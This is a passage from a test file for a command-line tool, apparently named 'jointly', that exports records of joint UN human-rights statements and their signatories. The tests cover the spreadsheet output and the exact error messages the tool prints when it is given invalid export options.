    // One row for every signatory on any of them.
    expect(lines).toHaveLength(1 + 39 + 1);
    expect(lines[lines.length - 1]).toBe('');

    const file = path.join(dir, 'alignment.xlsx');
    const toFile = await runCli(['--database-url', url, 'export', '--alignment', 'unga75-c3-xinjiang-germany, hrc41-xinjiang-counter-letter', '--out', file]);
    expect(toFile.code).toBe(0);
    expect(toFile.stderr).toBe(`exported the alignment of 2 statements (90 signatories) to ${file}\n`);
    const sheet = (await readWorkbook(file)).getWorksheet('alignment')!;
    const rows = sheetRows(sheet);
    expect(rows[0]).toEqual(['signatory_name', 'signatory_iso3', 'unga75-c3-xinjiang-germany', 'hrc41-xinjiang-counter-letter', 'signed_count']);
    expect(rows).toContainEqual(['Qatar', 'QAT', null, 'WITHDRAWN', 0]);
    expect(rows).toContainEqual(['Germany', 'DEU', 'SIGNED', null, 1]);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 1 });
  });

  it('exits 2 naming every unknown --alignment key', async () => {
    const result = await runCli(['--database-url', url, 'export', '--alignment', 'hrc41-xinjiang-letter-22,no-such-statement,Not A Key']);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe('jointly: --alignment: no statement has the keys "no-such-statement", "Not A Key"\n');
    expect(result.stdout).toBe('');
  });

  it.each([
    [['--format', 'xml'], 'jointly: --format must be one of json, ndjson, csv, xlsx, got "xml"'],
    [['--from', '2021-13'], 'jointly: --from "2021-13" is not a date of the form YYYY, YYYY-MM or YYYY-MM-DD'],
    [['--from', '2022', '--to', '2021'], 'jointly: --from "2022" is after --to "2021"'],
    [['--format', 'ndjson', '--out', 'x.json'], 'jointly: --format ndjson does not match the extension of --out x.json (json)'],
    [['--format', 'csv', '--out', 'x.json'], 'jointly: --format csv does not match the extension of --out x.json (json)'],
    [['--format', 'json', '--out', 'x.xlsx'], 'jointly: --format json does not match the extension of --out x.xlsx (xlsx)'],
    [['--out', 'export.txt'], 'jointly: --out export.txt: .txt is not an export format; name the file .json, .ndjson, .jsonl, .csv or .xlsx'],
    [['--alignment', 'a,,b'], 'jointly: --alignment takes statement keys separated by commas, e.g. --alignment hrc41-xinjiang-letter-22,unga74-c3-xinjiang-uk'],
    [['--alignment', Array.from({ length: 51 }, (_, i) => `s${i}`).join(',')], 'jointly: --alignment takes at most 50 statement keys, got 51'],
    [['--alignment', 'a,b,a'], 'jointly: --alignment names "a" twice'],
    [['--alignment', 'a', '--topic', 'Tibet', '--from', '2020'], 'jointly: --alignment takes its statements by key: it does not combine with --topic, --from'],
    [['--alignment', 'a', '--out', 'a.ndjson'], 'jointly: --alignment writes a table, as csv or xlsx, not ndjson'],
    [['--topic'], "jointly: option '--topic <topic>' argument missing"],
  ])('exits 2 with one line and no stack trace for a usage error: %j', async (args, message) => {
    const result = await runCli(['--database-url', 'postgres://nobody@127.0.0.1:1/none', 'export', ...args]);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(`${message}\n`);
    expect(result.stdout).toBe('');
  });
});
